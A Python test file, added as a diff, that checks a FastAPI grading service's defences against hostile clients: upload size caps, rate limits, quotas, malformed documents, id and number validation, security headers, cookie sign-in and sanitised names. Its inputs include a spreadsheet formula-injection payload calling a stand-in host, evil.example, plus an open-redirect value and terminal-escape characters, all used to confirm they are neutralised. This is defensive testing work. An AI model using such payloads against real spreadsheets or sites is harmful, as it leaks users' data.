@@ -1,0 +1,306 @@
+"""The HTTP edge against a hostile client: body caps before authentication, per-student limits,
+documents read outside the server, validated ids and numbers, headers, sign-in, exports."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+import logging
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from fastapi.testclient import TestClient
+
+from app.auth.service import create_token
+from app.db.migrate import upgrade
+from app.db.session import make_engine, make_sessionmaker, unit_of_work
+from app.errors import UnreadableUpload
+from app.main import create_app
+from app.middleware import BodyLimit
+from app.settings import Settings
+from app.submissions.decoding import DecodeLimits, DocumentReader
+from tests.app.conftest import Api, make_tokens, sqlite_url
+from tests.app.pdfs import text_pdf
+
+SLUG = "transformer-basics"
+UPLOAD = f"/api/v1/assignments/{SLUG}/submissions"
+MIB = 1024 * 1024
+
+
+@pytest.fixture(scope="module")
+def edge(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
+    url = sqlite_url(tmp_path_factory.mktemp("edge"))
+    upgrade(url)
+    settings = Settings(
+        database_url=url, workers=1, max_upload_bytes=64 * 1024, upload_burst=3,
+        uploads_per_minute=1, student_quota_bytes=3000, decode_max_pages=3,
+    )
+    engine = make_engine(url)
+    sessions = make_sessionmaker(engine)
+    with TestClient(create_app(settings)) as client:
+        yield Api(client, sessions, settings, make_tokens(sessions))
+    engine.dispose()
+
+
+def _student(api: Api, name: str) -> dict[str, str]:
+    with unit_of_work(api.sessions) as session:
+        return {"Authorization": f"Bearer {create_token(session, name, 'student').token}"}
+
+
+def _problem(response: Any, status: int) -> dict[str, Any]:
+    assert response.status_code == status, response.text
+    assert response.headers["content-type"].startswith("application/problem+json")
+    body: dict[str, Any] = response.json()
+    return body
+
+
+def _chunks(total: int, size: int = MIB) -> Iterator[bytes]:
+    for _ in range(total // size):
+        yield b"x" * size
+
+
+@pytest.mark.parametrize(
+    ("path", "status"),
+    # A route that parses its body before anything else meets the cap while reading; the
+    # upload route checks the token first and then reads nothing at all.
+    [("/api/v1/tokens", 413), ("/sign-in", 413), (UPLOAD, 401), ("/nowhere", 404)],
+)
+def test_a_streamed_body_over_the_cap_is_never_read_past_it(
+    edge: Api, path: str, status: int
+) -> None:
+    response = edge.client.post(path, content=_chunks(64 * MIB))  # chunked, no token
+    assert _problem(response, status)["status"] == status
+    signed_in = edge.client.post(path, content=_chunks(64 * MIB), headers=edge.auth("root"))
+    assert signed_in.status_code in (404, 413)
+
+
+def test_a_declared_body_over_the_cap_is_refused_without_reading_it() -> None:
+    async def never_called() -> dict[str, Any]:
+        raise AssertionError("the body was read")
+
+    async def app(*_: Any) -> None:
+        raise AssertionError("the request reached the app")
+
+    sent: list[dict[str, Any]] = []
+
+    async def send(message: Any) -> None:
+        sent.append(message)
+
+    scope = {"type": "http", "path": UPLOAD, "headers": [(b"content-length", b"67108864")]}
+    asyncio.run(BodyLimit(app, lambda _: 1024, 5.0)(scope, never_called, send))
+    assert sent[0]["status"] == 413 and (b"connection", b"close") in sent[0]["headers"]
+
+
+def test_a_stalled_body_is_dropped() -> None:
+    async def stall() -> dict[str, Any]:
+        await asyncio.sleep(10)
+        raise AssertionError("unreachable")
+
+    async def app(_scope: Any, receive: Any, _send: Any) -> None:
+        await receive()
+
+    sent: list[dict[str, Any]] = []
+
+    async def send(message: Any) -> None:
+        sent.append(message)
+
+    scope = {"type": "http", "path": "/api/v1/tokens", "headers": []}
+    asyncio.run(BodyLimit(app, lambda _: 1024, 0.05)(scope, stall, send))
+    assert sent[0]["status"] == 408
+
+
+def test_rate_limit_per_student_with_retry_after_staff_exempt(edge: Api) -> None:
+    carol = _student(edge, "carol")
+    body = {"answers": {"B1": "64"}}
+    assert [edge.client.post(UPLOAD, json=body, headers=carol).status_code for _ in range(3)] == [
+        202, 202, 202,
+    ]
+    limited = edge.client.post(UPLOAD, json=body, headers=carol)
+    assert _problem(limited, 429)["retry_after"] >= 1 and int(limited.headers["retry-after"]) >= 1
+    staff = [edge.client.post(UPLOAD, json=body, headers=edge.auth("prof")) for _ in range(5)]
+    assert {r.status_code for r in staff} == {202}
+
+
+def test_storage_quota_per_student(edge: Api) -> None:
+    dave = _student(edge, "dave")
+    document = json.dumps({"answers": {"B1": "6" * 1900}}).encode()
+    headers = {**dave, "content-type": "application/json"}
+    ok = edge.client.post(UPLOAD, content=document, headers=headers)
+    assert ok.status_code == 202, ok.text
+    over = edge.client.post(UPLOAD, content=document, headers=headers)
+    assert _problem(over, 413)["type"].endswith("/quota-exceeded")
+
+
+@pytest.mark.parametrize(
+    ("body", "words"),
+    [
+        (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >> endobj\ntrailer <<>>\n%%EOF", "pdf"),
+        (b"%PDF-1.4\n" + b"\xff" * 3000, "pdf"),
+        (text_pdf(["B1 answer", "x", "y", "z"]), "4 pages"),
+        (b'{"cells": [{"cell_type": "code", "source": 7}], "nbformat": 4}', "notebook"),
+    ],
+)
+def test_malformed_or_oversized_documents_are_422_not_500(
+    edge: Api, body: bytes, words: str
+) -> None:
+    response = edge.client.post(
+        UPLOAD, files={"file": ("doc.pdf" if body.startswith(b"%") else "n.ipynb", body)},
+        headers=edge.auth("prof"),
+    )
+    assert words in _problem(response, 422)["detail"].lower()
+
+
+def test_a_readable_pdf_is_accepted(edge: Api) -> None:
+    response = edge.client.post(
+        UPLOAD, files={"file": ("a.pdf", text_pdf(["B1: d_head = 64"]), "application/pdf")},
+        headers=edge.auth("prof"),
+    )
+    assert response.status_code == 202, response.text
+
+
+def test_reading_past_the_deadline_is_422() -> None:
+    reader = DocumentReader(DecodeLimits(seconds=0.001, max_pages=10, memory_bytes=256 * MIB), 1)
+    try:
+        with pytest.raises(UnreadableUpload, match="could not be read within"):
+            asyncio.run(reader.document_format(text_pdf(["B1: 64"] * 3), "a.pdf", None))
+    finally:
+        reader.close()
+
+
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [
+        ("GET", f"/api/v1/submissions/{2**63}"),
+        ("GET", f"/api/v1/submissions/{2**64 + 5}/results.json"),
+        ("GET", f"/api/v1/regrades/{2**63}"),
+        ("DELETE", f"/api/v1/tokens/{2**63}"),
+        ("PUT", f"/api/v1/submissions/{2**63}/items/b1.d_head/override"),
+    ],
+)
+def test_ids_beyond_64_bits_are_4xx(edge: Api, method: str, path: str) -> None:
+    who = "root" if "tokens" in path else "prof"
+    response = edge.client.request(method, path, json={"points": 1}, headers=edge.auth(who))
+    assert _problem(response, 422)["status"] == 422
+
+
+@pytest.mark.parametrize("points", ["1e400", "-1e400", "1e300", "NaN"])
+def test_absurd_points_are_422(edge: Api, points: str) -> None:
+    uploaded = edge.client.post(UPLOAD, json={"answers": {"B1": "64"}}, headers=edge.auth("prof"))
+    path = f"/api/v1/submissions/{uploaded.json()['id']}/items/b1.d_head/override"
+    response = edge.client.put(
+        path, content=f'{{"points": {points}}}',
+        headers={**edge.auth("prof"), "content-type": "application/json"},
+    )
+    _problem(response, 422)
+
+
+def test_staff_upload_takes_the_student_from_the_parameter_only(edge: Api) -> None:
+    document = {"student_id": "carol", "answers": {"B1": "64"}}
+    anonymous = edge.client.post(UPLOAD, json=document, headers=edge.auth("prof")).json()["id"]
+    explicit = edge.client.post(
+        f"{UPLOAD}?student=erin", json=document, headers=edge.auth("prof")
+    ).json()["id"]
+    assert edge.client.get(f"/api/v1/submissions/{anonymous}", headers=edge.auth("prof")).json()[
+        "student"
+    ] is None
+    assert edge.client.get(f"/api/v1/submissions/{explicit}", headers=edge.auth("prof")).json()[
+        "student"
+    ] == "erin"
+
+
+def test_csv_cells_cannot_be_formulas(edge: Api) -> None:
+    for name in ('=HYPERLINK("http://evil.example/?"&A1,"grade")', "+1+1", "@SUM(A1)", "-2+3"):
+        response = edge.client.post(
+            UPLOAD, params={"student": name}, json={"answers": {"B1": "64"}},
+            headers=edge.auth("prof"),
+        )
+        assert response.status_code == 202
+    export = edge.client.get(f"/api/v1/assignments/{SLUG}/export.csv", headers=edge.auth("prof"))
+    rows = list(csv.reader(io.StringIO(export.text)))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-2")]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"grade\")" in cells
+
+
+def test_security_headers(edge: Api) -> None:
+    assert edge.client.get("/healthz").headers["x-content-type-options"] == "nosniff"
+    form = edge.client.get(f"/assignments/{SLUG}/dashboard")
+    policy = form.headers["content-security-policy"]
+    assert "frame-ancestors 'none'" in policy and "script-src 'none'" in policy
+    assert form.headers["x-content-type-options"] == "nosniff"
+    docs = edge.client.get("/docs").headers["content-security-policy"]
+    assert "frame-ancestors 'none'" in docs and "https://cdn.jsdelivr.net" in docs
+
+
+def test_dashboard_sign_in_sets_a_strict_cookie_and_never_takes_a_token_in_the_url(
+    edge: Api,
+) -> None:
+    url = f"/assignments/{SLUG}/dashboard"
+    browser = TestClient(edge.client.app)
+    ignored = browser.get(url, params={"token": edge.tokens["prof"]})
+    assert 'name="token"' in ignored.text and 'method="post"' in ignored.text  # still the form
+    signed = browser.post(
+        "/sign-in", data={"token": edge.tokens["prof"], "next": url}, follow_redirects=False
+    )
+    assert signed.status_code == 303 and signed.headers["location"] == url
+    cookie = signed.headers["set-cookie"].lower()
+    assert "httponly" in cookie and "samesite=strict" in cookie and "path=/" in cookie
+    assert edge.tokens["prof"].lower() not in cookie
+    page = browser.get(url)
+    nonce = page.headers["content-security-policy"].split("'nonce-")[1].split("'")[0]
+    assert f'<script nonce="{nonce}">' in page.text and "<script>" not in page.text
+    away = browser.post("/sign-in", data={"token": edge.tokens["prof"], "next": "//evil.example"},
+                        follow_redirects=False)
+    assert away.headers["location"] == "/"
+    browser.post("/sign-out")
+    assert 'name="token"' in browser.get(url).text
+
+
+def test_a_client_disconnect_logs_one_line(edge: Api, caplog: pytest.LogCaptureFixture) -> None:
+    app = edge.client.app
+    messages = iter([
+        {"type": "http.request", "body": b'{"answers": ', "more_body": True},
+        {"type": "http.disconnect"},
+    ])
+
+    async def receive() -> Any:
+        return next(messages)
+
+    async def send(_message: Any) -> None:
+        pass
+
+    scope = {
+        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
+        "scheme": "http", "path": UPLOAD, "raw_path": UPLOAD.encode(), "query_string": b"",
+        "root_path": "", "server": ("testserver", 80), "client": ("127.0.0.1", 1),
+        "headers": [(b"content-type", b"application/json"),
+                    (b"authorization", f"Bearer {edge.tokens['prof']}".encode())],
+        "state": {}, "app": app,
+    }
+    with caplog.at_level(logging.INFO):
+        asyncio.run(app(scope, receive, send))  # type: ignore[arg-type]
+    records = [r for r in caplog.records if "disconnect" in r.getMessage()]
+    assert len(records) == 1 and records[0].exc_info is None
+    assert not [r for r in caplog.records if r.exc_info]
+
+
+def test_openapi_declares_the_regrade_job(edge: Api) -> None:
+    paths = edge.client.get("/openapi.json").json()["paths"]
+    assert "/api/v1/regrades/{job_id}" in paths and "/sign-in" not in paths
+
+
+def test_client_chosen_names_are_stored_clean(edge: Api) -> None:
+    response = edge.client.post(
+        UPLOAD, params={"student": "eve\x1b[2J\u202e"},
+        files={"file": ("a\x1b]0;x\x07\u202etxt.md", b"B1: d_head = 64", "text/markdown")},
+        headers=edge.auth("prof"),
+    )
+    assert response.status_code == 202, response.text
+    body = edge.client.get(
+        f"/api/v1/submissions/{response.json()['id']}", headers=edge.auth("prof")
+    ).json()
+    for text in (body["filename"], body["student"]):
+        assert not any(ch in text for ch in ("\x1b", "\x07", "\u202e")), text
